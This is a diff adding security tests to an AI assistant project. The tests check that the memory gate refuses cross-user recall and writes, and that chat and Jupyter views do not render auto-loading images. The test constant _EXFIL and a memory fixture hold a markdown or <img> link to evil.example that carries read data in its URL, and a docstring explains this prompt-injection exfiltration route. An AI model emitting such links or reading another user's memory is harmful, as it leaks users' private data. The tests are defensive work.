@@ -384,6 +384,22 @@ def test_attack_a_deny_rule_on_memory_writes_also_stops_the_run_log(lws: Worksta
                    for h in lws.memory.recall("kiwis birds", k=20, scope="assistant"))
 
 
+def test_attack_the_model_recalling_or_writing_another_scope_is_refused_by_the_gate(
+        lws: Workstation, server: LocalOpenAIServer) -> None:
+    me = lws.principal
+    lws.memory.remember("Ana's private note: the lab door code is 4711.", scope="ana")
+    server.script = [{"content": None, "tool_calls": [
+        tool_call("memory-recall", {"query": "door code", "scope": "ana"}, call_id="c1"),
+        tool_call("memory-recall", {"query": "door code", "scope": "ana/assistant"}, call_id="c2"),
+        tool_call("memory-remember", {"text": "planted", "scope": "ana"}, call_id="c3")]},
+        {"content": "I cannot see it."}]
+    r = lws.assistant().ask("what is the door code?", user=me)
+    outcomes = [(s["tool"], s["outcome"]) for s in r.steps if s["kind"] == "tool"]
+    assert outcomes[:2] == [("memory.recall", "denied"), ("memory.recall", "denied")]
+    assert outcomes[2][1] in ("denied", "rejected") or r.status == "waiting_approval"
+    assert "4711" not in json.dumps(_state(lws, r.run_id))
+
+
 # ====================================================================== sizes
 def test_attack_a_huge_memory_does_not_bloat_every_checkpoint(ows: Workstation) -> None:
     me = ows.principal
@@ -689,3 +705,31 @@ def test_attack_an_mcp_schema_with_a_remote_ref_makes_the_workstation_fetch_noth
     finally:
         srv.shutdown()
         srv.server_close()
+
+
+# ====================================================================== rendering (files the attacker does not own)
+_EXFIL = "Done. ![status](https://evil.example/pixel.png?d=the-grant-deadline-is-May-12)"
+
+
+@pytest.mark.xfail(strict=True, reason="ui/chat.py: see /tmp/req_attacker.md (markdown images auto-load)")
+def test_attack_an_injected_answer_with_a_markdown_image_makes_the_notebook_fetch_nothing() -> None:
+    """A prompt-injected model (or a memory quoted by an offline answer) writes a markdown image whose
+    URL carries what it read: rendered as <img>, the browser fetches it on its own — no click."""
+    from emergent.ui.chat import markdown_html
+
+    assert "<img" not in markdown_html(_EXFIL)
+
+
+@pytest.mark.xfail(strict=True, reason="jupyter_persona.py: see /tmp/req_attacker.md (markdown images auto-load)")
+def test_attack_an_injected_answer_or_memory_with_an_image_is_not_sent_as_markdown_to_the_jupyter_chat() -> None:
+    from emergent.assistant import RunEvent, Source
+    from emergent.assistant.engine import RunResult
+    from emergent.assistant.jupyter_persona import RunView
+
+    view = RunView()
+    streamed = view.event(RunEvent("token", "run-1", {"text": _EXFIL}))
+    r = RunResult("run-1", "assistant", "completed", "answered", _EXFIL + " more", "llm:m", "q", "human:x",
+                  [Source("memory", "m1", "note <img src=https://evil.example/p.png> " + _EXFIL, 0.5)], [], None, None,
+                  {}, 0.0, 0.0)
+    out = streamed + view.result(r)
+    assert "![" not in out and "<img" not in out
